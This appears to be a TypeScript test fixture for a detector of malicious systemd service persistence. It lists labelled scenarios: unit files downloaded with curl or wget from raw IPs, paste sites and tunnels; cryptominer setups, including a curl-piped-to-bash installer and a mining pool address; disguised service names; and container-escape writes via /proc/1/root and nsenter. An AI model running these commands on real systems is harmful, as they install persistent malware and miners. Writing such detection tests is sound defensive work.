import { onlyFull, ran, scenarios, wrote } from './scenario.ts';

const DIR = '/etc/systemd/system';

const X = `${DIR}/updater.service`;

const SERVICE = '[Service]\\nExecStart=';

const downloaded = scenarios('malicious', 'download', [
  ['from an address', wrote('root', X, 'curl', `curl -fsSL http://203.0.113.77:8080/u -o ${X}`, 'sh')],
  [
    'from an address over TLS',
    wrote(
      'root',
      X,
      'wget',
      `wget -q https://203.0.113.77/u -O ${X} --no-check-certificate ; curl -V`,
      'bash',
    ),
  ],
  [
    'from an address in another notation',
    wrote('root', X, 'curl', `curl -o ${X} https://0xcb007107/u`, 'bash'),
  ],
  ['from a paste site', wrote('root', X, 'curl', `curl -s https://pastebin.com/raw/abc -o ${X}`, 'bash')],
  ['from a tunnel', wrote('root', X, 'curl', `curl -so ${X} https://a-b-c.trycloudflare.com/u`, 'bash')],
  ['without TLS', wrote('root', X, 'curl', `curl -fs http://cdn.example.net/u -o ${X}`, 'bash')],
]);

const miners = scenarios('malicious', 'miner', [
  [
    'TeamTNT',
    wrote(
      'root',
      `${DIR}/kworker-d.service`,
      'cp',
      `cp /tmp/kworker.service ${DIR}/kworker-d.service`,
      'bash',
    ),
  ],
  [
    'xmrig below java',
    ran(
      'root',
      'systemctl enable xmrig.service',
      'sh',
      'sh -xe /var/lib/jenkins/workspace/app@tmp/durable-77aa/script.sh',
      'java',
    ),
  ],
  [
    'c3pool',
    ran(
      'root',
      'systemctl enable c3pool_miner.service',
      'bash',
      'bash -c curl -s -L https://download.example.net/setup_c3pool_miner.sh | bash -s 4',
      'node',
    ),
  ],
  ['Kinsing', ran('root', 'systemctl enable --now bot.service', 'perl', 'perl /usr/bin/x.pl', 'kinsing')],
  [
    'a pool in the unit',
    wrote(
      'root',
      X,
      'bash',
      `bash -c echo '${SERVICE}/usr/bin/u -o stratum+tcp://pool.example.net:3333' > ${X}; ls /tmp/`,
      'bash',
    ),
  ],
]);

const masks = scenarios('malicious', 'masquerade', [
  [
    'systemd helper',
    ran('root', 'systemctl enable systemd-network-helper', 'python3', 'python3 /opt/u/run.py', 'bash'),
  ],
  [
    'D-Bus name',
    ran(
      'root',
      'systemctl enable dbus-org.freedesktop.update1.service',
      'python3',
      'python3 /opt/u/run.py',
      'bash',
    ),
  ],
  ['kernel worker', ran('root', 'systemctl enable kworker-d', 'perl', 'perl /opt/u/run.pl', 'bash')],
  [
    'a leading dot',
    ran('root', 'systemctl enable .updater.service', 'python3', 'python3 /opt/u/run.py', 'bash'),
  ],
  [
    'a miner by its plain name',
    ran('root', 'systemctl enable --now cpu-miner.service', 'python3', 'python3 /opt/u/run.py', 'bash'),
  ],
  [
    'letters of another alphabet',
    ran('root', 'systemctl enable s\u0443stemd-logind', 'python3', 'python3 /opt/u/run.py', 'bash'),
  ],
  [
    'a timer',
    ran(
      'root',
      'systemctl enable --now systemd-tmpfiles-helper.timer',
      'python3',
      'python3 /opt/u/run.py',
      'bash',
    ),
  ],
  [
    'under Ansible',
    ran(
      'root',
      'systemctl enable kworker-d',
      'python3',
      '/usr/bin/python3 /root/.ansible/tmp/ansible-tmp-1-2-3/AnsiballZ_systemd.py',
      'sh',
    ),
  ],
]);

const seenByPath = scenarios('malicious', 'masquerade', [
  ['swap daemon', wrote('root', `${DIR}/kswapd0.service`, 'python3', 'python3 /opt/u/run.py', 'bash')],
]).map(onlyFull);

const escapes = scenarios('malicious', 'container-escape', [
  [
    "the host's file system mounted",
    wrote(
      'root',
      '/host/etc/systemd/system/updater.service',
      'cp',
      'cp /tmp/u.service /host/etc/systemd/system/updater.service',
      'runc',
    ),
  ],
  [
    'by way of /mnt',
    wrote(
      'root',
      X,
      'sh',
      'sh -c cp /tmp/u.service /mnt/host/etc/systemd/system/updater.service',
      'containerd-shim',
    ),
  ],
  ['below nsenter', ran('root', 'systemctl enable updater', 'python3', 'python3 /opt/x.py', 'nsenter')],
  [
    'the root of process 1',
    wrote('root', X, 'sh', 'sh -c cp /tmp/u.service /proc/1/root/etc/systemd/system/updater.service', 'runc'),
  ],
  ['nsenter in the line', wrote('root', X, 'bash', `bash -c nsenter -t 1 -m cp /tmp/u.service ${X}`, 'runc')],
]);

/** Attacks that a download, a miner, a name or a way out of a container gives away. */
export const maliciousOriginScenarios = [...downloaded, ...miners, ...masks, ...seenByPath, ...escapes];
